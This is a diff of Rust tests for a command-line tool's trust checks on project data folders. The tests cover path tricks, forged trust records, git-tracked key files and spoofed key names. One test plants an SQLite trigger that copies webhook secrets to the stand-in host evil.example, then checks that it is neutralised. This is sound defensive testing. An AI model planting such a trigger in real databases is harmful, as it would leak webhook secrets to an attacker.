@@ -28,16 +28,16 @@ fn what_came_with_a_project_is_opened_once_it_is_trusted() {
     for command in commands {
         let refused = rebut.run(&[&["--data", "debates"], *command].concat());
         assert_eq!(refused.code, 2, "{command:?}: {refused:?}");
-        assert!(refused.stderr.contains("the data folder debates is not empty and was not made by you"), "{command:?}: {}", refused.stderr);
+        assert!(refused.stderr.contains("/debates is not empty and was not made by you"), "{command:?}: {}", refused.stderr);
         assert!(refused.stderr.contains("rebut trust --data debates"), "{command:?}: {}", refused.stderr);
     }
     let unasked = rebut.run(&["--data", "debates", "trust"]);
     assert!(unasked.code == 2 && unasked.stderr.contains("rebut trust --yes --data debates"), "{unasked:?}");
     let asked = rebut.json(0, &["--data", "debates", "trust", "--json"]);
     let keys: Vec<&str> = asked["powers"].as_array().expect("a list").iter().filter_map(|power| power["key"].as_str()).collect();
-    assert_eq!((keys, &asked["trusted"]), (vec!["debates", "webhooks", "server.keys"], &false.into()), "{asked}");
+    assert_eq!((keys, &asked["trusted"]), (vec!["debates", "server.keys", "webhooks"], &false.into()), "{asked}");
     let text = asked.to_string();
-    for told in ["is open: Offline?", "https://collect.example/all", "`theirs` of author"] {
+    for told in ["1 of them go on", "script:agree.md", "https://collect.example/all", "`theirs` of author"] {
         assert!(text.contains(told), "{told}: {text}");
     }
 
@@ -60,6 +60,74 @@ fn what_was_made_in_a_project_for_this_user_is_theirs_until_its_key_is_another()
     fs::write(rebut.path("debates/seal.key"), "00".repeat(32)).expect("another key");
     let refused = rebut.run(&["--data", "debates", "ls"]);
     assert!(refused.code == 2 && refused.stderr.contains("another sealing key"), "{refused:?}");
+}
+
+#[test]
+fn no_other_way_of_writing_its_place_opens_it() {
+    let rebut = project();
+    fs::create_dir(rebut.path("src")).expect("a folder");
+    let whole = rebut.path("debates").display().to_string();
+    for (folder, data) in
+        [(".", "nothing/../debates"), (".", "./src/../debates/"), ("src", "../debates"), ("src", "$PWD/../debates"), ("src", &whole)]
+    {
+        let line = format!("cd {folder} && rebut --data \"{data}\" keys ls");
+        let output = rebut.shell(&line);
+        assert_eq!((output.code, &*output.stdout), (2, ""), "{line}: {}", output.stderr);
+        let line = format!("cd {folder} && REBUT_DATA=\"{data}\" rebut keys ls");
+        assert_eq!(rebut.shell(&line).code, 2, "{line}");
+    }
+    // A folder that is itself a repository, from outside of it.
+    fs::create_dir(rebut.path("debates/.git")).expect("a folder");
+    assert_eq!(rebut.shell(&format!("cd / && rebut --data {whole} keys ls")).code, 2, "the root of a repository");
+    // A record of trust that the project brings.
+    let mut rebut = rebut;
+    rebut.expect(0, &["--data", "debates", "trust", "--yes"]);
+    let record = fs::read_to_string(rebut.state().join("trusted.json")).expect("a record");
+    rebut.expect(0, &["trust", "--revoke", "debates"]);
+    rebut.write("state/rebut/trusted.json", &record);
+    rebut.set("XDG_STATE_HOME", "state");
+    rebut.expect(2, &["--data", "debates", "keys", "ls"]);
+}
+
+#[test]
+fn what_git_tracks_is_not_opened_and_nothing_is_lost() {
+    let rebut = Rebut::new();
+    rebut.write("agree.md", &script(&[("*", &recommends("A"))]));
+    rebut.program("git", "PATH=/usr/local/bin:/usr/bin:/bin exec git \"$@\"");
+    rebut.expect(0, ASK);
+    let before = fs::read(rebut.path("debates/rebut.db")).expect("a database");
+    // As a pull of a commit with such a file leaves it.
+    rebut.write("debates/server.keys", "[]");
+    let tracked = rebut.shell("git init -q . && git add -f debates/server.keys");
+    assert_eq!(tracked.code, 0, "{}", tracked.stderr);
+    for command in [&["ls"][..], &["resume", "last"], &["trust", "--yes"]] {
+        let refused = rebut.run(&[&["--data", "debates"], command].concat());
+        assert!(refused.code == 2 && refused.stderr.contains("git tracks `server.keys`"), "{command:?}: {refused:?}");
+    }
+    assert!(fs::read(rebut.path("debates/rebut.db")).expect("a database") == before, "nothing was changed");
+    rebut.shell("git rm -q --cached debates/server.keys");
+    assert!(rebut.expect(0, &["--data", "debates", "ls"]).contains("Offline?"));
+}
+
+#[test]
+fn what_trust_shows_cannot_be_forged_and_looking_changes_nothing() {
+    let rebut = project();
+    let name = "a\n  webhooks\n    none";
+    let keys = format!(r#"[{{"name":{name:?},"owner":{name:?},"role":"admin","sha256":"{}"}}]"#, "0".repeat(64));
+    rebut.write("debates/server.keys", &keys);
+    let database = rebut.path("debates/rebut.db");
+    let trigger = "CREATE TRIGGER told AFTER INSERT ON events BEGIN INSERT OR IGNORE INTO webhooks (id, owner, url, events, secret, created_at) \
+                   SELECT 'planted', owner, 'https://evil.example/', events, secret, created_at FROM webhooks; END";
+    let connection = rusqlite::Connection::open(&database).expect("a database");
+    connection.execute_batch(trigger).expect("a trigger");
+    connection.close().expect("closed");
+    let before = fs::read(&database).expect("a database");
+    let shown = rebut.run(&["--data", "debates", "trust"]).stdout;
+    assert_eq!(shown.lines().filter(|line| *line == "  webhooks").count(), 1, "{shown}");
+    assert!(fs::read(&database).expect("a database") == before, "looking changes nothing");
+    rebut.expect(0, &["--data", "debates", "trust", "--yes"]);
+    rebut.expect(0, ASK);
+    assert!(!rebut.expect(0, &["--data", "debates", "webhooks", "ls"]).contains("evil.example"), "its trigger does nothing");
 }
 
 #[test]
